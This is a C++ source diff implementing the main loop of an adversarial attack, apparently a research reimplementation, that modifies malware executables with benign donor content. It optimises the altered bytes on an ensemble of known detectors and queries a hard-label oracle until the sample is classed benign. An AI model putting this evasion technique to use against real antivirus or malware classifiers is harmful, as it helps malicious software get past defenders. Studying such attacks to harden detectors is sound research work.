@@ -1,0 +1,129 @@
+#include "core/mpass.hpp"
+
+namespace mpass::core {
+
+using util::ByteBuf;
+
+Mpass::Mpass(MpassConfig cfg, std::span<const ByteBuf> benign_pool,
+             std::vector<ml::ByteConvNet*> known)
+    : cfg_(std::move(cfg)),
+      pool_(benign_pool.begin(), benign_pool.end()),
+      known_(std::move(known)) {
+  if (pool_.empty()) pool_.emplace_back();  // degenerate zero-donor
+}
+
+MpassResult Mpass::run(std::span<const std::uint8_t> malware,
+                       detect::HardLabelOracle& oracle,
+                       std::uint64_t seed) const {
+  util::Rng rng(seed);
+  MpassResult result;
+  const std::size_t start_queries = oracle.queries();
+
+  const bool can_optimize =
+      cfg_.optimize && !known_.empty() && !cfg_.random_content;
+  std::unique_ptr<EnsembleOptimizer> opt;
+  if (can_optimize) opt = std::make_unique<EnsembleOptimizer>(known_);
+
+  while (!oracle.exhausted()) {
+    // (1) Initial perturbation from a random benign program + recovery.
+    // When an ensemble is available, several candidate donors are modified
+    // and the one scoring most benign on the known models is kept -- this
+    // costs zero target queries and is what keeps AVQ low.
+    ModifiedSample mod;
+    bool have_mod = false;
+    const int donor_candidates = can_optimize ? 4 : 1;
+    float best_score = 1e30f;
+    for (int c = 0; c < donor_candidates; ++c) {
+      const ByteBuf& donor = pool_[rng.below(pool_.size())];
+      ModifiedSample candidate;
+      try {
+        candidate = apply_modification(malware, donor, cfg_.modification, rng);
+      } catch (const util::ParseError&) {
+        return finish(result, oracle, start_queries);  // not a modifiable PE
+      }
+      const float score =
+          can_optimize ? opt->ensemble_score(candidate.bytes) : 0.0f;
+      if (!have_mod || score < best_score) {
+        best_score = score;
+        mod = std::move(candidate);
+        have_mod = true;
+      }
+    }
+    if (cfg_.random_content)
+      for (std::uint32_t p : mod.perturbable) mod.set_byte(p, rng.byte());
+
+    // Burn-in optimization before spending the first query (paper workflow:
+    // optimize on the ensemble, then query). Queries are the scarce
+    // resource: keep optimizing until the ensemble consensus is benign
+    // enough or the local budget runs out.
+    if (can_optimize) {
+      for (int s = 0; s < cfg_.opt_steps_per_query; ++s) opt->step(mod);
+      for (int s = 0; s < cfg_.max_gate_steps &&
+                      opt->ensemble_score(mod.bytes) > cfg_.query_gate_score;
+           ++s)
+        opt->step(mod);
+    }
+
+    result.adversarial = mod.bytes;
+    result.apr = mod.apr;
+    if (!oracle.query(mod.bytes)) {
+      result.success = true;
+      break;
+    }
+
+    if (!can_optimize) {
+      // Random-content mode: fresh randomization per query; otherwise a new
+      // donor is drawn by the outer loop.
+      if (!cfg_.random_content) continue;
+      while (!oracle.exhausted()) {
+        for (std::uint32_t p : mod.perturbable) mod.set_byte(p, rng.byte());
+        if (!oracle.query(mod.bytes)) {
+          result.success = true;
+          result.adversarial = mod.bytes;
+          break;
+        }
+      }
+      break;
+    }
+
+    // (3) Keep optimizing on the ensemble, querying periodically.
+    int donor_queries = 0;
+    float prev_loss = 1e30f;
+    int stalls = 0;
+    while (!oracle.exhausted() && donor_queries < cfg_.queries_per_donor) {
+      float loss = 0.0f;
+      for (int s = 0; s < cfg_.opt_steps_per_query; ++s)
+        loss = opt->step(mod);
+      for (int s = 0; s < cfg_.max_gate_steps &&
+                      opt->ensemble_score(mod.bytes) > cfg_.query_gate_score;
+           ++s)
+        loss = opt->step(mod);
+      if (!oracle.query(mod.bytes)) {
+        result.success = true;
+        result.adversarial = mod.bytes;
+        result.apr = mod.apr;
+        break;
+      }
+      ++donor_queries;
+      // Loss plateau: this donor's basin is exhausted; re-initialize.
+      if (loss >= prev_loss - 1e-4f) {
+        if (++stalls >= 2) break;
+      } else {
+        stalls = 0;
+      }
+      prev_loss = loss;
+    }
+    if (result.success) break;
+  }
+
+  return finish(result, oracle, start_queries);
+}
+
+MpassResult& Mpass::finish(MpassResult& result,
+                           const detect::HardLabelOracle& oracle,
+                           std::size_t start_queries) {
+  result.queries = oracle.queries() - start_queries;
+  return result;
+}
+
+}  // namespace mpass::core
